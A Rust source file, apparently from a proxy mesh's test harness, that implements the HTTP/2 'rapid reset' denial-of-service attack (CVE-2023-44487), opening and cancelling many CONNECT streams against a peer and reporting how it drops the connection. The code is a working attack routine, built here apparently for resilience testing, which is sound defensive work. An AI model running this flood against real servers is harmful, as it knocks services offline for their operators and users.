//! A peer of the mesh that opens streams only to reset them ("rapid reset", CVE-2023-44487).

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context, Result};
use bytes::Bytes;
use http::{Method, Request};
use rustls::pki_types::ServerName;
use tokio::net::TcpStream;
use tokio::time::timeout;
use tokio_rustls::TlsConnector;

use super::tls;
use crate::netns::Netns;
use crate::pki::Papers;

/// One tunnel, many streams that nobody waits for.
#[derive(Clone, Debug)]
pub struct Flood<'a> {
    pub to: SocketAddr,
    pub papers: &'a Papers,
    pub target: SocketAddr,
    /// How many streams are opened and reset at once, if the peer stands it.
    pub streams: usize,
}

impl Flood<'_> {
    /// Floods from inside the namespace, and says how the peer ended it; `None` when it stood it all.
    ///
    /// # Errors
    /// There was no tunnel to begin with.
    pub fn make(&self, from: &Netns) -> Result<Option<String>> {
        from.run(|| {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
            runtime.block_on(async { timeout(PATIENCE, self.go()).await.context("the flood never ended")? })
        })
    }

    async fn go(&self) -> Result<Option<String>> {
        let config = tls::client(Some(self.papers), &["h2"], &[])?;
        let tcp = TcpStream::connect(self.to).await.context("connecting")?;
        let name = ServerName::IpAddress(self.to.ip().into());
        let stream = TlsConnector::from(config).connect(name, tcp).await.context("TLS")?;
        let (mut client, connection) =
            h2::client::Builder::new().handshake::<_, Bytes>(stream).await.context("HTTP/2 preface")?;
        let driver = tokio::spawn(connection);
        for _ in 0..self.streams {
            let request = Request::builder().method(Method::CONNECT).uri(self.target.to_string()).body(())?;
            let Ok(ready) = client.clone().ready().await else { break };
            client = ready;
            let Ok((response, mut stream)) = client.send_request(request, false) else { break };
            // HEADERS have to be on the wire before the reset, or nothing is sent at all.
            tokio::task::yield_now().await;
            stream.send_reset(h2::Reason::CANCEL);
            drop(response);
        }
        drop(client);
        Ok(match driver.await.context("the connection's task")? {
            Ok(()) => None,
            Err(e) => Some(e.to_string()),
        })
    }
}

const PATIENCE: Duration = Duration::from_secs(15);
